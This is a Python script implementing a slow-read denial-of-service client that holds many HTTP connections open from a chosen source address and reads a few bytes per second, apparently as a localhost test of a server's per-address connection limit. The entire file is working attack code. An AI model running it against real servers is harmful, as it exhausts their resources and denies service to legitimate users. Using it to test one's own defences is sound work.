#!/usr/bin/env python3
"""slowread.py: a slow-read attacker from a chosen source address.

Keeps CONNS connections open from SOURCE (e.g. 127.0.0.2, so a per-address
limit can tell it from honest clients on 127.0.0.1), each with a small
receive buffer, asking for PATH and then reading RATE bytes a second; a
connection the server closes is opened again. Ends after SECONDS and prints
one line: "opened N refused_503 N closed_by_server N".

Usage: slowread.py --port P [--host 127.0.0.1] [--source 127.0.0.2]
                   [--conns 1500] [--path /1m.bin] [--rate 10] [--seconds 30]
"""
import argparse
import selectors
import socket
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--source", default="127.0.0.2")
    ap.add_argument("--conns", type=int, default=1500)
    ap.add_argument("--path", default="/1m.bin")
    ap.add_argument("--rate", type=int, default=10)
    ap.add_argument("--seconds", type=float, default=30)
    a = ap.parse_args()
    request = f"GET {a.path} HTTP/1.1\r\nHost: x\r\n\r\n".encode()
    sel = selectors.DefaultSelector()
    stats = {"opened": 0, "refused_503": 0, "closed_by_server": 0}
    first = {}

    def open_one():
        s = socket.socket()
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        s.bind((a.source, 0))
        s.setblocking(False)
        try:
            s.connect((a.host, a.port))
        except BlockingIOError:
            pass
        except OSError:
            s.close()
            return
        sel.register(s, selectors.EVENT_WRITE)
        first[s] = b""
        stats["opened"] += 1

    end = time.monotonic() + a.seconds
    for _ in range(a.conns):
        open_one()
    while time.monotonic() < end:
        # One round a second: each connection reads RATE bytes at most.
        round_end = min(end, time.monotonic() + 1)
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            if key.events == selectors.EVENT_WRITE:
                try:
                    s.send(request)
                    sel.modify(s, selectors.EVENT_READ)
                except OSError:
                    sel.unregister(s)
                    s.close()
                    first.pop(s, None)
                    open_one()
                continue
            try:
                data = s.recv(a.rate)
            except OSError:
                data = b""
            if s in first and len(first[s]) < 12:
                first[s] += data
                if first[s].startswith(b"HTTP/1.1 503"):
                    stats["refused_503"] += 1
            if not data:
                stats["closed_by_server"] += 1
                sel.unregister(s)
                s.close()
                first.pop(s, None)
                open_one()
        time.sleep(max(0.0, round_end - time.monotonic()))
    print(" ".join(f"{k} {v}" for k, v in stats.items()), flush=True)
    for key in list(sel.get_map().values()):
        key.fileobj.close()


if __name__ == "__main__":
    main()
